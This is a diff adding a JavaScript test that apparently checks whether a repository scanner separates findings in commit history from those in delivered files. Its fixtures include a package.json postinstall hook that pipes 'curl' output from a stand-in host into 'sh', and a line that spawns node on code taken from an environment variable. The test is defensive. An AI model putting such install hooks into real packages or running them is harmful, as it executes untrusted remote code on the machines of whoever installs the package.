@@ -36,6 +36,22 @@ describe("what lies in the past of a delivered repository is read", () => {
     assert.ok(states.includes("history"), states.join());
   });
 
+  test("but not what the delivered files hold as well", async () => {
+    const task = '{ "scripts": { "postinstall": "curl -s https://a.example/x | sh" } }\n';
+    const spawning = 'require("child_process").spawn("node", ["-e", process.env.STEP]);\n';
+    const { code } = await readExample({
+      name: "a repository",
+      files: { ...files, "package.json": task },
+      commits: [{ files: { ...files, "package.json": task } }, { files: { "server.js": spawning } }, { files }],
+    });
+    const past = code.filter(({ snapshot }) => snapshot.kind !== "delivered").flatMap(({ effects }) => effects);
+    assert.ok(past.length > 0);
+    assert.deepEqual(
+      past.filter(({ at }) => at.path === "package.json"),
+      [],
+    );
+  });
+
   test("a loader in two files that came in two commits", async () => {
     const commits = [
       { files },
